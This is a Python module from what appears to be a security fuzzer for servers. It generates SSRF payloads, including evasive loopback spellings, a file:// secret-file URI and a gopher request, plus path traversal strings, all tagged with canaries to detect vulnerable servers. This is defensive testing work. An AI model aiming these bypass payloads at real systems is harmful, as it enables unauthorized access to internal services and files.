"""Addresses that a server should not ask on a caller's word: our own listener on loopback, in the spellings
that checks forget; and values that climb out of their place in an upstream's path.
"""

from __future__ import annotations

from functools import lru_cache

from mcpfuzz.strategies.payload import Payload

__all__ = ["TLS", "addresses", "climbs"]

HOSTS: tuple[tuple[str, str], ...] = (
    ("127.0.0.1", "loopback"),
    ("localhost", "loopback by name"),
    ("[::ffff:127.0.0.1]", "loopback as an IPv4-mapped IPv6 address"),
    ("{rebind}", "a name that leads to loopback for this server"),
    ("127.1", "loopback, shortened"),
    ("2130706433", "loopback as one number"),
    ("0x7f000001", "loopback in hexadecimal"),
    ("0177.0.0.1", "loopback in octal"),
    ("0.0.0.0", "the unspecified address"),
    ("0", "the unspecified address as one digit"),
    ("127.0.0.1.", "loopback with a dot behind"),
    ("127.127.127.127", "another address of loopback"),
    ("LOCALHOST", "loopback by name, in capitals"),
    ("example.com@127.0.0.1", "loopback behind a user name that looks like a host"),
)
_TOKEN = "{canary:1}"
TLS = "ssrf over TLS"
"""What arrives is encrypted and shows no canary: whoever comes to the bait at all was sent there."""


@lru_cache(maxsize=4096)
def addresses(base: str) -> tuple[Payload, ...]:
    """URLs of the bait, most likely first.

    Args:
        base: the good value; its scheme and path may be what a check wants.
    """
    path = base.split("://", 1)[-1].partition("/")[2].split("?")[0] if "://" in base else ""
    made = [_whole(f"http://{host}:{{bait_port}}/{_TOKEN}", words, "ssrf") for host, words in HOSTS]
    made[2:2] = [
        _whole("file://{outside}/secret.txt", "a file: URI", "ssrf"),
        _whole(f"127.0.0.1:{{bait_port}}/{_TOKEN}", "loopback without a scheme", "ssrf"),
    ]
    made += [
        _whole(f"https://127.0.0.1:{{bait_port}}/{_TOKEN}", "loopback over TLS", TLS),
        _whole(f"HTTP://127.0.0.1:{{bait_port}}/{_TOKEN}", "a scheme in capitals", "ssrf"),
        _whole(f"//127.0.0.1:{{bait_port}}/{_TOKEN}", "no scheme, two slashes", "ssrf"),
        _whole(f"http://127.0.0.1:{{bait_port}}/{_TOKEN}/{path}", "loopback, the good path", "ssrf"),
        _whole(f"http:/\\127.0.0.1:{{bait_port}}/{_TOKEN}", "a backslash", "ssrf"),
        _whole(f"http://127.0.0.1:{{bait_port}}\\@example.com/{_TOKEN}", "a backslash before @", "ssrf"),
        _whole(f"gopher://127.0.0.1:{{bait_port}}/_GET%20/{_TOKEN}%0d%0a", "another scheme", "ssrf"),
    ]
    return tuple(made)


def _whole(text: str, words: str, rule: str) -> Payload:
    """An address is not shortened: half of one may name somebody else."""
    return Payload(text, words, (text,), rule)


CLIMBS: tuple[tuple[str, str], ...] = (
    ("../../../../../../{canary:1}", "out of its folder"),
    ("../{canary:1}", "one folder up"),
    ("../../{canary:1}?x=", "two folders up, the rest cut off as a query"),
    ("../../../{canary:1}?x=", "three folders up, the rest cut off as a query"),
    ("../../../{canary:1}#", "three folders up, the rest cut off as a fragment"),
    ("..%2f..%2f..%2f{canary:1}", "percent-encoded slashes"),
    ("%2e%2e/%2e%2e/{canary:1}", "percent-encoded dots"),
    ("..;/..;/{canary:1}", "dots with a path parameter"),
    ("..\\..\\{canary:1}", "backslashes"),
    ("/{canary:1}", "an absolute path"),
    ("//127.0.0.1:{bait_port}/{canary:1}", "a path that is an address"),
    ("@127.0.0.1:{bait_port}/{canary:1}", "what stood before becomes a user name"),
)


@lru_cache(maxsize=16)
def climbs() -> tuple[Payload, ...]:
    """Values that leave their place in an upstream's path, most likely first."""
    return tuple(Payload(text, words, ("{canary:1}",), "upstream-path") for text, words in CLIMBS)
